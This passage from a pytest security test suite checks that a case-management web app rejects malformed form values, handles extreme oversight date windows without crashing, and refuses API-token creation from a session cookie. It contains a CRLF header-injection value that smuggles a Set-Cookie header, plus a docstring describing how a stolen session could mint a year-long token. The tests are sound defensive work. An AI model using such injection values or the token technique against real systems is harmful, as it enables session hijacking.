        r = c.get("/oversight", params={"start": "2020-01-01", "end": "2030-12-31"})
    assert r.status_code == 200
    inert(r.text)


BAD_FORMS = [
    (INVESTIGATOR, "/legal", {"type": "subpoena", "number": "N1", "issued": "2026-13-45",
                              "case_id": CASE}),
    (INVESTIGATOR, "/legal", {"type": "subpoena", "number": "N1", "issued": "99999-01-01",
                              "case_id": CASE, "expires": "yesterday"}),
    (INVESTIGATOR, "/legal", {"type": "no_such_type", "number": "N" * 5000,
                              "issued": "2026-01-01", "case_id": CASE + "\x00"}),
    (INVESTIGATOR, "/cases", {"case_id": "RT\r\nSet-Cookie: x=1", "title": "t",
                              "kind": "criminal"}),
    (INVESTIGATOR, "/cases", {"case_id": "RT-K", "title": "t", "kind": "martian"}),
    (RECORDS, "/sars", {"identity_id": "X1", "case_id": "SA-1", "requester": "r",
                        "received": "0000-00-00"}),
    (RECORDS, "/sars", {"identity_id": "X1", "case_id": "SA-1", "requester": "",
                        "received": "2026-02-30"}),
    (ADMIN, "/users", {"name": "rt_ok", "role": "investigator", "org": "nypd",
                       "org_type": "martian"}),
    (ADMIN, "/users/nobody-here/password", {"password": "a" * 2000, "again": "a" * 2000}),
    (INVESTIGATOR, "/purpose", {"purpose": PURPOSE, "claims": "x" * 5000, "case_id": CASE}),
]


@pytest.mark.parametrize("user,path,form", BAD_FORMS)
def test_bad_form_values_are_4xx_pages_without_internals(live: LiveWeb, user: str, path: str,
                                                         form: dict[str, str]) -> None:
    with session(live, user, purpose=user == INVESTIGATOR) as c:
        token = _csrf(c.get("/account").text)
        r = c.post(path, data={"csrf": token, **form})
    assert r.status_code < 500, (path, r.status_code, r.text[:300])
    assert r.status_code != 303 or "\n" not in r.headers.get("location", ""), r.headers
    assert "x=1" not in r.headers.get("set-cookie", "")
    no_leak(r)
    assert r.headers["cache-control"] == "no-store"


@pytest.mark.parametrize("params", [{"start": "x", "end": "y"},
                                    {"start": "2030-01-01", "end": "2020-01-01"},
                                    {"start": "0001-01-01", "end": "9999-12-31"}])
def test_oversight_window_values_are_not_a_crash(live: LiveWeb, params: dict[str, str]) -> None:
    """end=9999-12-31 is a 500 (OverflowError: audit/reports/oversight.py adds a day to
    the end date). Fix needed (A): app.reports.oversight_report refuses (Invalid, 422)
    a window ending at date.max (or the report clamps `hi`)."""
    from web_fixtures import OVERSEER

    with session(live, OVERSEER, purpose=False) as c:
        r = c.get("/oversight", params=params)
    assert r.status_code < 500, (params, r.status_code, r.text[:300])
    no_leak(r)


def test_a_stolen_session_cannot_mint_a_year_long_api_token(live: LiveWeb) -> None:
    """The API accepts the web session cookie (with the CSRF token, which any page
    shows): whoever holds a stolen 8-hour session creates a 365-day bearer token that
    survives logout, the session's end and a password change. Fix needed (C/D): creating
    a token needs the password again (re-authentication), or is refused over a cookie
    session, or cannot outlive the session that created it."""
    with session(live) as c:
        token = _csrf(c.get("/search").text)
        r = c.post("/api/v1/tokens", json={"name": "rt-from-cookie", "days": 365},
                   headers={"X-CSRF-Token": token})
    assert r.status_code in (401, 403, 422), (r.status_code, r.text[:300])
